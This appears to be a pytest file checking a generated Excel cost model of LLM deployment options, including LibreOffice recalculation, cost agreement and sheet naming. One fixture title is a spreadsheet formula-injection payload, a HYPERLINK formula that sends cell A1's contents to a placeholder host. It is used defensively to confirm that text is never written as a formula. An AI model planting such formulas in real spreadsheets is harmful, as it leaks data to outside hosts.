"""summary.xlsx, a working model: written for every shipped scenario (and one that takes every other branch of the
formulas: a token distribution with a long-context bin, a price factor, bought GPUs of the cheapest type), then
recalculated by LibreOffice headless (`econ._workbook.recalculate`: a private profile set to recalculate on load,
``soffice --convert-to xlsx``) and read back with openpyxl (``data_only=True``): every option's and plan's monthly
cost and present cost equal the kit's (``decision.json``) within 0.5 %, the recommended plan is the kit's, every
formula evaluates, and changed assumptions move the options as the kit computes them (and as computed by hand).

The tests that need LibreOffice skip without it, except under CI (``CI=true``), where they fail: .ci/run installs
Debian's libreoffice-calc-nogui. The others (text as text, sheet names, same bytes) run everywhere.
"""

import io
import json
import os
import re
import zipfile
from pathlib import Path

import numpy as np
import pytest
from openpyxl import load_workbook

from econ import _pipeline, _workbook, decide, load_scenario, scenario_files
from econ._fleet import size_fleet

ROOT = Path(__file__).resolve().parents[1]
DRAWS = 500  # Monte Carlo draws behind each decision's confidence: the workbook is under test, not the confidence
TOLERANCE = 0.005  # the bar: within 0.5 % of the kit
ERRORS = ("#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#N/A", "#NUM!", "#NULL!", "Err:")

EVERY_BRANCH = """scenario:
  title: {title}
  description: "every branch of the workbook's formulas"
workload:
  requests_per_day: {{value: 3000, source: "=1+1"}}
  input_tokens_per_request: {{value: 12960, source: "the bins' mean"}}
  output_tokens_per_request: {{value: 368, source: "the bins' mean"}}
  batchable_share: {{value: 0.5, source: test}}
  token_distribution:
    value: {{input_tokens: [1000, 300000], output_tokens: [300, 2000], share: [0.96, 0.04]}}
    source: "a bin beyond the API's 200,000-token long-context threshold"
api:
  price_factor: {{value: 0.8, source: "a negotiated discount"}}
selfhost:
  model: {{value: llama-4-scout-17b-16e, source: "a context window that holds the 300,000-token bin"}}
  gpu: {{value: auto, source: test}}
  gpu_cost_mode: {{value: buy, source: test}}
"""
TITLE = '=HYPERLINK("http://x/?"&A1,"click")'


def _scenario(path: Path, title: str, extra: str = "") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'scenario:\n  title: {json.dumps(title)}\n  description: "test"\n{extra}')
    return path


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    """The shipped scenarios and one that takes the other branches, their decisions and the workbook."""
    extra = tmp_path_factory.mktemp("scenarios") / "every_branch.yaml"
    extra.write_text(EVERY_BRANCH.format(title=json.dumps(TITLE)))
    scenarios = [load_scenario(f) for f in [*scenario_files(), extra]]
    decisions = [decide(sc, draws=DRAWS) for sc in scenarios]
    return scenarios, decisions, _workbook.workbook_bytes(scenarios, decisions)


@pytest.fixture(scope="module")
def libreoffice():
    if _workbook.soffice() is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice is not installed; .ci/run installs it (apt-get install libreoffice-calc-nogui)",
                        pytrace=False)
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")


@pytest.fixture(scope="module")
def recalculated(model, libreoffice):
    return load_workbook(io.BytesIO(_workbook.recalculate(model[2])), data_only=True)


def row_of(ws, label: str) -> int:
    rows = [c.row for c in ws["A"] if c.value == label]
    assert len(rows) == 1, f"{ws.title}: {len(rows)} rows labelled {label!r}"
    return rows[0]


def plan_cells(ws, label: str) -> dict[str, object]:
    """A costs or cash sheet's row of one value per plan, by the plans' names in the header row above it."""
    row = row_of(ws, label)
    header = next(r for r in range(row - 1, 0, -1) if ws.cell(r, 1).value == "item")
    return {ws.cell(header, c).value: ws.cell(row, c).value for c in range(3, ws.max_column + 1)
            if ws.cell(header, c).value not in (None, "how it is computed")}


def value_of(ws, label: str):
    return ws.cell(row_of(ws, label), 3).value


def sheets_of(wb, i: int) -> tuple[str, str, str]:
    """The i-th scenario's inputs, costs and cash sheets (the order of the how-to sheet and the workbook)."""
    names = [n for n in wb.sheetnames if n.endswith(" inputs")]
    base = names[i].removesuffix(" inputs")
    return tuple(f"{base} {s}" for s in _workbook.SUFFIXES)


def deviations(wb, scenarios, decisions):
    """Per scenario and plan: the recalculated monthly and present cost over the kit's, minus 1."""
    out = {}
    for i, (sc, d) in enumerate(zip(scenarios, decisions)):
        _, costs, cash = sheets_of(wb, i)
        monthly = plan_cells(wb[costs], "monthly cost of the plan")
        npv = plan_cells(wb[cash], "present cost (NPV of the costs)")
        for k, o in d.options.items():
            out[sc.name, k] = (monthly[o.name] / o.monthly_usd - 1, npv[o.name] / o.pv_usd - 1)
    return out


# --- recalculated by LibreOffice ---------------------------------------------------------------------------------

def test_every_plan_recalculates_to_the_kits_cost(model, recalculated):
    scenarios, decisions, _ = model
    wb = recalculated
    for (name, plan), (monthly, present) in deviations(wb, scenarios, decisions).items():
        assert abs(monthly) <= TOLERANCE, f"{name}, {plan}: monthly cost off the kit's by {monthly:.3%}"
        assert abs(present) <= TOLERANCE, f"{name}, {plan}: present cost off the kit's by {present:.3%}"
    for i, (sc, d) in enumerate(zip(scenarios, decisions)):
        _, costs, _ = sheets_of(wb, i)
        ws = wb[costs]
        assert value_of(ws, "recommended plan (the cheapest eligible)") == d.options[d.recommended].name, sc.name
        marked = {name for name, x in plan_cells(ws, "recommended").items() if x == "recommended"}
        assert marked == {d.options[d.recommended].name}, sc.name
        assert value_of(ws, "GPUs in the fleet") == d.fleet.gpus and value_of(ws, "utilization") == pytest.approx(d.fleet.utilization)
        if d.runner_up:
            assert value_of(ws, "runner-up (the next cheapest eligible)") == d.options[d.runner_up].name
            assert value_of(ws, "savings against the runner-up") == pytest.approx(d.savings_usd_per_month, rel=TOLERANCE)
        summary = wb["summary"]
        assert summary.cell(2 + i, 1).value == sc.name
        recalculated_columns = [summary.cell(2 + i, c).value for c in range(summary.max_column - 1, summary.max_column + 1)]
        assert recalculated_columns == [d.options[d.recommended].name,
                                        pytest.approx(d.options[d.recommended].monthly_usd, rel=TOLERANCE)]


def test_every_formula_evaluates_without_error(model, recalculated):
    written = load_workbook(io.BytesIO(model[2]))
    formulas = 0
    for ws in written:
        for row in ws.iter_rows():
            for c in row:
                value = recalculated[ws.title][c.coordinate].value
                assert not (isinstance(value, str) and value.startswith(ERRORS)), f"{ws.title}!{c.coordinate}: {value}"
                if c.data_type == "f":
                    formulas += 1
                    # a formula's value is there, unless it chose the empty text ("") on purpose
                    assert value is not None or '""' in c.value, f"{ws.title}!{c.coordinate} = {c.value} has no value"
    assert formulas > 1000 * len(model[0])  # the costs and cash sheets are formulas, not values


def test_text_stays_text_after_recalculation(model, recalculated):
    title_sheet = sheets_of(recalculated, len(model[0]) - 1)[0]
    assert recalculated[title_sheet]["A1"].value == TITLE
    sources = {c.value for c in recalculated[title_sheet]["D"]}
    assert "=1+1" in sources


def _set_input(wb, sheet: str, key: str, value) -> None:
    ws = wb[sheet]
    ws.cell(row_of(ws, key), 2).value = value


def test_changed_assumptions_move_the_options_as_the_kit_computes(model, libreoffice):
    """Three reviewers' edits, one per scenario (the API's input price × 10, twenty times the volume, a dearer
    engineer), recalculated by LibreOffice and compared with the kit at the
    changed values (the fleet's GPU type and degree held, as in the sheet; the routed shares held, as the kit holds
    them while the quality inputs stay put); the API's input price ×10 also against a hand computation."""
    scenarios, decisions, data = model
    by_name = {sc.name: i for i, sc in enumerate(scenarios)}
    edits = {"enterprise_steady": {"api.input_usd_per_mtok": 10 * scenarios[by_name["enterprise_steady"]]["api.input_usd_per_mtok"]},
             "small_team_spiky": {"workload.requests_per_day": 20 * scenarios[by_name["small_team_spiky"]]["workload.requests_per_day"]},
             "regulated_on_prem": {"engineering.loaded_usd_per_hour": 100.0}}
    wb = load_workbook(io.BytesIO(data))
    for name, changes in edits.items():
        for key, value in changes.items():
            _set_input(wb, sheets_of(wb, by_name[name])[0], key, value)
    buf = io.BytesIO()
    wb.save(buf)
    after = load_workbook(io.BytesIO(_workbook.recalculate(buf.getvalue())), data_only=True)
    before = load_workbook(io.BytesIO(_workbook.recalculate(data)), data_only=True)

    for name, changes in edits.items():
        i = by_name[name]
        sc, d = scenarios[i], decisions[i]
        v = {**sc.values, **changes}
        assert int(size_fleet(v)["candidate"]) == int(size_fleet(sc.values)["candidate"])  # same fleet type: comparable
        routed, _ = _pipeline._routed_split(sc)
        kit = _pipeline.plan_costs(v, routed)
        monthly = plan_cells(after[sheets_of(after, i)[1]], "monthly cost of the plan")
        for k, o in d.options.items():
            assert monthly[o.name] == pytest.approx(float(kit[k]["monthly_usd"]), rel=TOLERANCE), f"{name}, {k}"
        fleet = size_fleet(v)
        assert value_of(after[sheets_of(after, i)[1]], "GPUs in the fleet") == int(fleet["gpus"]), name
        keys = list(kit)
        best = keys[int(_pipeline._cheapest_eligible(kit, keys))]
        assert value_of(after[sheets_of(after, i)[1]], "recommended plan (the cheapest eligible)") == d.options[best].name

    assert value_of(after[sheets_of(after, by_name["small_team_spiky"])[1]], "GPUs in the fleet") > \
        decisions[by_name["small_team_spiky"]].fleet.gpus  # twenty times the volume: more replicas, by formula

    # by hand: enterprise's prompt prefix (30 % of 1,000 tokens) is below Anthropic's 1,024-token caching minimum and
    # no request reaches the long-context tier, so every input token is billed at the input price; a fifth of the
    # requests go through the batch API at half price.
    sc = scenarios[by_name["enterprise_steady"]]
    assert sc["workload.input_tokens_per_request"] * sc["workload.cacheable_prefix_share"] < sc["api.min_cacheable_prefix_tokens"]
    assert sc["workload.input_tokens_per_request"] < sc["api.long_context_above_tokens"]
    requests_per_month = sc["workload.requests_per_day"] * 730 / 24
    batch = sc["workload.batchable_share"]
    by_hand = (9 * sc["api.input_usd_per_mtok"] * sc["workload.input_tokens_per_request"] / 1e6
               * ((1 - batch) + batch * sc["api.batch_price_factor"]) * requests_per_month)
    assert by_hand == pytest.approx(9 * 3.0 * 1000 / 1e6 * 0.9 * 1_825_000)  # 44,347.50 USD a month
    costs = sheets_of(after, by_name["enterprise_steady"])[1]
    moved = plan_cells(after[costs], "monthly cost of the plan")["closed API"] - \
        plan_cells(before[costs], "monthly cost of the plan")["closed API"]
    assert moved == pytest.approx(by_hand, rel=1e-9)
    # and the flip: above about 84 USD an hour, the regulated scenario's managed endpoint becomes the cheaper plan
    flips = [f for f in decisions[by_name["regulated_on_prem"]].flips if f["key"] == "engineering.loaded_usd_per_hour"]
    assert flips and flips[0]["flip_value"] < 100.0
    assert value_of(after[sheets_of(after, by_name["regulated_on_prem"])[1]],
                    "recommended plan (the cheapest eligible)") == "managed open endpoint"


# --- the workbook as written --------------------------------------------------------------------------------------

def test_workbook_holds_every_scenario_with_its_numbers(model):
    import pandas as pd

    from econ._views import PLAN_NAMES

    scenarios, decisions, data = model
    assert data == _workbook.workbook_bytes(scenarios, decisions)  # no save time inside: reruns give the same file
    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None)
    assert list(sheets)[:2] == ["how to use", "summary"] and list(sheets)[-2:] == ["Monte Carlo", "provenance"]
    assert len(sheets) == 4 + 3 * len(scenarios)
    summary = sheets["summary"].set_index("scenario file")
    confidence = "confidence: share of draws in which it stays the cheapest eligible plan [fraction]"
    for i, (sc, d) in enumerate(zip(scenarios, decisions)):
        row = summary.loc[sc.name]
        for key, name in PLAN_NAMES.items():
            cell = row[f"{name} [USD/month]"]
            assert (cell == pytest.approx(d.options[key].monthly_usd)) if key in d.options else pd.isna(cell)
        assert row["recommended plan"] == d.options[d.recommended].name
        assert row[confidence] == pytest.approx(d.confidence)
        inputs = sheets[sheets_of(load_workbook(io.BytesIO(data), read_only=True), i)[0]].astype(str)
        assert inputs.apply(lambda col: col.str.contains("workload.requests_per_day")).any().any()
        assert sc.file.name in sheets["provenance"]["item"].str.cat()
    monte_carlo = pd.read_excel(io.BytesIO(data), sheet_name="Monte Carlo", header=3, nrows=len(decisions))
    assert monte_carlo["confidence [fraction]"].tolist() == pytest.approx([d.confidence for d in decisions])
    assert (monte_carlo["draws"] == DRAWS).all()
    with zipfile.ZipFile(io.BytesIO(data)) as z:  # no local paths
        text = "".join(z.read(n).decode() for n in z.namelist())
    assert str(ROOT) not in text and "/tmp/" not in text and "params/small_team_spiky.yaml" in text


def test_every_input_the_formulas_read_is_a_number_with_its_source(model):
    scenarios, decisions, data = model
    wb = load_workbook(io.BytesIO(data))
    for i, sc in enumerate(scenarios):
        inputs, costs, cash = sheets_of(wb, i)
        ws = wb[inputs]
        read = set()
        for name in (costs, cash):
            for row in wb[name].iter_rows():
                for c in row:
                    if c.data_type == "f":
                        read.update(r.split("!")[1] for r in _refs(c.value) if r.startswith(f"'{inputs}'!"))
        assert read, sc.name
        for ref in read:
            row = int(ref.split("$")[2])
            key, value, unit, source = (ws.cell(row, j).value for j in range(1, 5))
            assert source, f"{sc.name}: {key} has no source"
            if key in sc.assumptions and isinstance(sc[key], (int, float)) and not isinstance(sc[key], bool):
                assert isinstance(value, (int, float)), f"{sc.name}: {key} = {value!r} is not a number"
                factor = sc.values.get(f"{key.split('.')[0]}.price_factor", 1) if key.endswith("_usd_per_mtok") else 1
                assert value * factor == pytest.approx(sc[key]), key
        held = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)
                if str(ws.cell(r, 6).value).startswith(_workbook.KIT)]
        assert {"fleet.gpu", "fleet.tensor_parallel"} <= set(held), sc.name


def _refs(formula: str) -> list[str]:
    return re.findall(r"'(?:[^']|'')+'!\$[A-Z]+\$\d+", formula)


def test_scenario_text_is_written_as_text_never_as_a_formula(model):
    scenarios, _, data = model
    wb = load_workbook(io.BytesIO(data))
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "s"}
    assert TITLE in texts and "=1+1" in texts
    formulas = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and not [f for f in formulas if "HYPERLINK" in f or f == "=1+1"]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"HYPERLINK" in xml and not re.search(rb"<f>[^<]*(HYPERLINK|1\+1)", xml)  # in text cells, in no formula


def test_workbook_sheet_names_are_unique_and_allowed(tmp_path):
    names = ["a_scenario_with_a_long_name_shared_one", "a_scenario_with_a_long_name_shared_two", "what?[x]", "Summary",
             "it's"]
    scenarios = [load_scenario(_scenario(tmp_path / f"{n}.yaml", f"Title {i}")) for i, n in enumerate(names)]
    data = _workbook.workbook_bytes(scenarios, [decide(sc, draws=DRAWS) for sc in scenarios])
    wb = load_workbook(io.BytesIO(data))
    inputs = [n for n in wb.sheetnames if n.endswith(" inputs")]
    assert sorted(wb[n]["A1"].value for n in inputs) == [f"Title {i}" for i in range(len(names))]  # none replaced
    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") and n[0] != "'" for n in wb.sheetnames)
    assert len({n.lower() for n in wb.sheetnames}) == len(wb.sheetnames) == 4 + 3 * len(names)
    quoted = [c.value for c in wb["it's costs"]["C"] if isinstance(c.value, str) and "inputs'!" in c.value]
    assert quoted and all("'it''s inputs'!" in f for f in quoted)  # an apostrophe in a sheet name, doubled


def test_the_recalculation_is_needed_and_happens(model, libreoffice):
    """openpyxl writes formulas without values (a reader of the raw file sees none); LibreOffice's copy has them."""
    scenarios, decisions, data = model
    raw = load_workbook(io.BytesIO(data), data_only=True)
    costs = sheets_of(raw, 0)[1]
    assert set(plan_cells(raw[costs], "monthly cost of the plan").values()) == {None}
    done = load_workbook(io.BytesIO(_workbook.recalculate(data)), data_only=True)
    assert all(isinstance(x, float) for x in plan_cells(done[costs], "monthly cost of the plan").values())
    assert np.isfinite(list(plan_cells(done[costs], "monthly cost of the plan").values())).all()
